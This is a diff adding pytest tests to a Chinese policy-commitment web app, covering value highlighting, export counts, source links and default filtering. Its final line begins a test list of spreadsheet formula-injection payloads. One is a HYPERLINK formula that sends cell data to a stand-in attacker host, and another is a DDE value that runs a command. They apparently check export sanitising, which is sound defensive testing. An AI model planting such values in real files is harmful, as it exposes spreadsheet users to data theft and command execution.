@@ -81,6 +81,20 @@ def test_a_commitment_opens_its_document_with_the_evidence_highlighted(client, s
     assert f'id="c{idx}"' in html
 
 
+def test_the_document_view_marks_the_value_itself(client, sample_store):
+    import sqlite3
+
+    with sqlite3.connect(sample_store) as c:
+        doc_id, idx, value, unit = c.execute(
+            "SELECT doc_id, idx, value, unit FROM commitments WHERE kind = 'target' AND value_start IS NOT NULL "
+            "AND unit = '%' LIMIT 1").fetchone()
+    html = client.get(f"/documents/{doc_id}", params={"c": idx}).text
+    # the selected commitment's value is marked apart from the other values of its sentence
+    marked_value = re.findall(r'<mark class="[^"]*\bval-current\b[^"]*"[^>]*>(.*?)</mark>', html.split('id="doctext"')[1], re.S)
+    text = "".join(marked_value)
+    assert text.endswith("%") and f"{value:g}" in text.replace("％", "%")
+
+
 def test_exports_carry_the_filtered_rows(client):
     import openpyxl
 
@@ -93,7 +107,7 @@ def test_exports_carry_the_filtered_rows(client):
     sheet = openpyxl.load_workbook(io.BytesIO(x.content)).active
     assert sheet.max_row - 1 == len(rows) and sheet.cell(1, 1).value == "地区"
     docs = list(csv.DictReader(io.StringIO(client.get("/documents.csv").content.decode("utf-8-sig"))))
-    assert len(docs) == 8 and "发文字号" in docs[0]
+    assert len(docs) == 12 and "发文字号" in docs[0]  # ten sample files, the compilation holding three documents
 
 
 @pytest.mark.parametrize("path, params", [
@@ -170,6 +184,47 @@ def test_unknown_document_is_404(client):
 def test_no_store_is_a_clear_error(tmp_path):
     with pytest.raises(FileNotFoundError, match="policy.sqlite"):
         create_app(tmp_path / "policy.sqlite")
+
+
+def test_source_shows_the_published_url_as_a_link_beside_the_path_read(tmp_path, samples):
+    from outputs.store import Store
+    from pipeline.process import extract_file
+
+    url, bad_url = "https://www.example.gov.cn/art/1.html", "https://www.example.gov.cn/files/scan.pdf"
+    page, scan = samples / "qingdao_elderly_care_notice.html", tmp_path / "scan.pdf"
+    scan.write_bytes(b"%PDF-1.4 broken")
+    with Store(tmp_path / "s.sqlite") as st:
+        for path, u in ((page, url), (scan, bad_url), (samples / "weifang_news_report.txt", None)):
+            result = extract_file(path)
+            st.put_file(str(path), result.records, result.text)
+            st.put_provenance(str(path), "0" * 64, path.stat().st_size, "2026-01-01T00:00:00+00:00", "file", u)
+        docs = st.table("documents")
+    c = TestClient(create_app(tmp_path / "s.sqlite"))
+    linked = c.get(f"/documents/{docs.loc[docs['source'] == str(page), 'doc_id'].iloc[0]}").text
+    assert f'<a href="{url}" rel="noopener noreferrer" target="_blank">{url}</a>' in linked and str(page) in linked
+    plain = c.get(f"/documents/{docs.loc[docs['source'].str.endswith('weifang_news_report.txt'), 'doc_id'].iloc[0]}").text
+    assert "本次读取" not in plain and "weifang_news_report.txt" in plain
+    assert f'<a href="{bad_url}"' in c.get("/errors").text
+
+
+def test_default_view_shows_comparable_rows_and_the_rest_is_one_filter_away(client, sample_store):
+    import sqlite3
+
+    with sqlite3.connect(sample_store) as c:
+        comparable, unkeyed, reported, every = c.execute(
+            "SELECT SUM(indicator_key IS NOT NULL AND kind != 'reported'), SUM(indicator_key IS NULL),"
+            " SUM(kind = 'reported'), COUNT(*) FROM commitments").fetchone()
+    assert comparable and unkeyed and every > comparable
+    html = client.get("/commitments").text
+    assert total(html) == comparable and "可比较" in html
+    assert set(re.findall(r'class="kind-(\w+)"', html)) <= {"target", "provision"}
+    # the facets offer the other rows, labelled, with the count a click shows
+    facet = html.split('data-facet="indicator"')[1].split("</div>")[0]
+    assert "（未归类）" in facet and str(unkeyed) in facet
+    link = re.search(r'id="show-all" href="([^"]+)"', html).group(1).replace("&amp;", "&")
+    assert total(client.get(link).text) == every
+    assert total(client.get("/commitments", params={"indicator": "none"}).text) == unkeyed
+    assert total(client.get("/commitments", params={"kind": "reported"}).text) == reported
 
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)",
